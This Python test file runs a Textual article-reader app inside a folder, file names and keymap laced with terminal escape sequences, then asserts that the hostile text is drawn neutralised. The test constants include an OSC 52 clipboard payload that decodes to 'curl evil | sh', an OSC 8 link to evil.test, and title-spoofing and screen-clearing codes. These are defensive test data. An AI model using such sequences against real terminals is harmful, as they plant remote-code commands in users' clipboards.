"""Nothing raw on screen: the app run in a hostile folder, with hostile files and keymap.

Issue 19 (item 2): the import dialog drew the working directory and file
names raw (a folder named with ESC ] 52 set the clipboard as soon as ``i``
was pressed), and key names from the config went raw into the footer.  The
real app runs here on a pseudo-terminal, started in a folder whose name
holds OSC 52, OSC 0, CSI 2J, U+202E and U+009B, with files so named, a
keymap naming such a key and a hostile article; the test goes through the
help screen, the import dialog (the folder in the path field, a completion
of a hostile file name, importing it), the palette and the search, and
checks every byte the app wrote: each escape sequence is one of Textual's
own, and the hostile text shows, neutralised.
"""

from __future__ import annotations

from pathlib import Path

from helpers.processes import reader_argv
from helpers.terminal import (
    ESCAPE,
    HOSTILE,
    PtyApp,
    app_output_problems,
    main_screen,
    terminal_env,
)
from reader.models import ArticleDraft
from reader.store import open_store

CWD = "cwd\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;CWD-TITLE\x07\x1b[2J\u202e\x9b"
FILE = "g\x1b]0;FILE-TITLE\x07\x1b]8;;https:evil.test\x1b\\link\x1b]8;;\x1b\\\x9b2J.txt"
KEY = "\\u001b]0;KEY-TITLE\\u0007\\u001b[2J"  # TOML escapes: ESC ] 0 ; ... BEL, CSI 2J
RIGHT = b"\x1b[C"


def test_no_hostile_byte_reaches_the_terminal_from_any_screen(tmp_path: Path) -> None:
    folder = tmp_path / CWD
    folder.mkdir()
    (folder / FILE).write_text("title: Hostile file\n\nتوكاييف في أستانا " + HOSTILE,
                               encoding="utf-8")
    config = tmp_path / "config.toml"
    config.write_text(f'[keymap]\ntoggle_read = "{KEY}"\n', encoding="utf-8")
    db = tmp_path / "store"
    open_store(db).import_drafts([ArticleDraft(
        title="Title " + HOSTILE, body="قال الرئيس توكاييف " + HOSTILE, source="S " + HOSTILE,
        date="2024-05-05")])
    env = terminal_env(tmp_path, {"READER_CONFIG": str(config)})
    app = PtyApp(reader_argv("--db", str(db)), env, cwd=folder)
    try:
        app.wait_for(b"articles")
        # After each Escape, the screen proves the dialog or field closed (main_screen).
        app.press(b"?", shows=b"Binding id")  # the help screen, keys after the keymap
        app.press(ESCAPE, until=main_screen(gone="Binding id"), what="the help closed")
        app.press(b"i", shows=b"Import articles")  # the path field holds the hostile folder
        app.press(b"g", shows=b"FILE-TITLE")  # the completion: a hostile file name
        app.press(RIGHT)  # take it
        app.press(b"\r", shows=b"1 article imported")
        app.press(ESCAPE, until=main_screen(gone="Import articles"), what="the dialog closed")
        app.press(b"\x10", shows=b"Search for commands")  # Ctrl+P: the palette
        app.press("توك".encode(), shows=b"Tokayev")
        app.press(ESCAPE, until=main_screen(gone="🔎"), what="the palette closed")
        # The footer changes a frame after the field takes focus: until then the
        # main screen's state holds, so wait for the field's keys, then its results.
        app.press(b"/", until=lambda rows: "esc Cancel" in rows[-1], what="the search field")
        app.press(b"Title", until=lambda rows: rows[-2].strip().startswith("Search: Title"),
                  what="the search's results")
        app.press(ESCAPE, until=main_screen(), what="the search field closed")
        app.send(b"q")
        status = app.wait(60)
    finally:
        app.close()
    data = app.data()
    assert status == 0, data[-2000:]
    # The hostile names were drawn (neutralised) ...
    for shown in (b"CWD-TITLE", b"FILE-TITLE", b"KEY-TITLE"):
        assert shown in data, shown
    # ... and nothing but Textual's own sequences reached the terminal.
    assert app_output_problems(data) == []
